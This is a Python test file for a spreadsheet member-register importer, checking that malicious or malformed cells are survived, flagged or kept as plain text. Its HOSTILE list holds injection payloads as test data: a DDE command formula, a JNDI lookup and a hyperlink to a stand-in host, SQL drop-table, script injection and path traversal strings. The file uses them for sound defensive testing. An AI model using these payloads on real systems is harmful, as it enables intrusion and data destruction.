"""Cells that someone filled with malice or by accident: read as what they are, or asked; never run, never fatal."""

import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tenants.members.register import RowClass
from tests.support.workbooks import workbook
from tests.tenants.members.register.workbooks import read, read_member

HEADINGS = [
    "企业名称",
    "统一社会信用代码",
    "法定代表人",
    "商会职务",
    "联系人",
    "手机",
    "所属行业",
    "注册资本(万元)",
    "入会时间",
    "会费标准",
    "2025年已缴",
    "通讯地址",
    "备注",
]
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test","点我")',
    "+1+1",
    "@SUM(1)",
    "<script>alert(1)</script>",
    "'; DROP TABLE members;--",
    "{{7*7}}",
    "${jndi:ldap://evil.test}",
    "A" * 5000,
    "#REF!",
    "#N/A",
    "\u202e公司",
    "\u200b\u200b",
    "😀😀😀",
    "-1",
    "1.38E+10",
    "9" * 400,
    "1e400",
    "nan",
    "\\x00",
    "_x0000_",
    "%s%n%(x)s",
    "../../etc/passwd",
    "٣٤٥",
    "１２３４５６７８９０１２３",
    "500 2000",
    "-,",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_hostile_cell_in_any_column_is_survived(cell: str) -> None:
    row = read_member(HEADINGS, ["西安甲木商贸有限公司"] + [cell] * (len(HEADINGS) - 1))
    said = json.dumps(row.as_json(), ensure_ascii=False)
    assert row.row_class in (RowClass.MEMBER, RowClass.UNIMPORTABLE)
    assert "\u202e" not in said and "\u200b" not in said and "\\u0000" not in said
    assert "credit_code" not in row.fields and "phones" not in row.fields and "contacts" not in row.fields


@pytest.mark.parametrize("cell", ["500 2000", "-,", ",", "1 200.50"])
def test_numbers_written_carelessly_do_not_stop_the_guess_of_a_unit(cell: str) -> None:
    row = read_member(["企业名称", "注册资本", "2025年会费"], ["西安甲木商贸有限公司", cell, cell])
    assert row.row_class is RowClass.MEMBER


@pytest.mark.parametrize(
    "name",
    ["=1+1", "+甲", "@甲", "<b>西安甲木商贸有限公司</b>", "西安甲木商贸有限公司<script>", "{{甲木商贸有限公司}}"],
)
def test_a_name_that_is_code_is_asked(name: str) -> None:
    row = read_member([*HEADINGS[:1], "联系人"], [name, "张三丰"])
    assert row.row_class is RowClass.UNIMPORTABLE


def test_invisible_characters_are_removed_and_those_that_deceive_are_mentioned() -> None:
    row = read_member(
        ["企业名称", "联系人", "备注"],
        ["西安\u200b甲木商贸有限公司\ufeff", "张\u202e三丰", "a\u0007b".replace("\u0007", "_x0007_")],
    )
    assert row.fields["name"] == "西安甲木商贸有限公司" and row.fields["contacts"] == [{"name": "张三丰"}]
    assert {problem.field for problem in row.problems if problem.code == "hidden_characters_removed"} == {
        "contact",
        "remarks",
    }


def test_markup_in_a_remark_is_kept_as_text() -> None:
    row = read_member(
        ["企业名称", "联系人", "备注"], ["西安甲木商贸有限公司", "张三丰", "<img src=x onerror=alert(1)>"]
    )
    assert row.fields["remarks"] == "<img src=x onerror=alert(1)>"


def test_texts_that_are_too_long_are_not_cut_but_asked() -> None:
    row = read_member(["企业名称", "联系人", "地址"], ["西安甲木商贸有限公司", "张三丰", "街" * 5000])
    assert "address" not in row.fields and [problem.code for problem in row.questions] == ["text_too_long"]


def test_every_problem_says_something_to_a_person() -> None:
    for cell in HOSTILE:
        row = read_member(HEADINGS, ["西安甲木商贸有限公司"] + [cell] * (len(HEADINGS) - 1))
        assert all(problem.text and "%(" not in problem.text.replace(cell, "") for problem in row.problems)


cells = st.one_of(
    st.none(),
    st.integers(-(10**12), 10**12),
    st.floats(allow_nan=False, allow_infinity=False),
    st.dates(),
    st.booleans(),
    st.sampled_from(
        [
            *HOSTILE,
            "企业名称",
            "联系人",
            "小计",
            "副会长单位(3家)",
            "同上",
            "西安甲木商贸有限公司",
            "张三丰",
            "13900000001",
        ]
    ),
    st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Cn")), max_size=20),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=st.lists(st.lists(cells, max_size=8), max_size=12), headed=st.booleans())
def test_no_sheet_makes_the_engine_fail(rows: list[list[Any]], headed: bool) -> None:
    head = [HEADINGS[:8]] if headed else []
    rows = [[f"'{cell}" if isinstance(cell, str) and cell.startswith("=") else cell for cell in row] for row in rows]
    register = read(workbook({"表": [*head, *rows]}))
    json.dumps(register.as_json(), ensure_ascii=False)
    numbers = [row.row for row in register.rows]
    assert numbers == list(range(1, len(numbers) + 1))
